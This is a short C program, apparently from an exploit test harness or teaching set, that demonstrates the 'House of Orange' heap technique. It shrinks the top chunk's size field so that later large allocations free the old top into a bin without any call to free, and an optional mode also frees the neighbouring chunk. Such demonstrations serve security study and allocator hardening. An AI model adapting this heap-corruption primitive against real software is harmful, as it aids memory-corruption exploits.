/* Usage: house_of_orange SIZE grow|free
   Makes top look smaller, its end still on a page, and asks for more than that:
   the old top would be freed into a bin without anybody having called free.
   "free": frees the chunk in front, which would merge with it. */
#include "attack.h"

int main(int argc, char **argv)
{
    size_t n = size_arg(argv);
    unsigned char *last = take_raw(n), *top = behind(last);
    uint32_t rest = (uint32_t)((4096 - (address(top) - 16) % 4096) % 4096);
    *size_word(top) = (rest + 4096) | 1;
    if (is(argv, "free"))
        to_bin(last);
    for (int i = 0; i < 100; i++)
        take(120000);
    return settle();
}
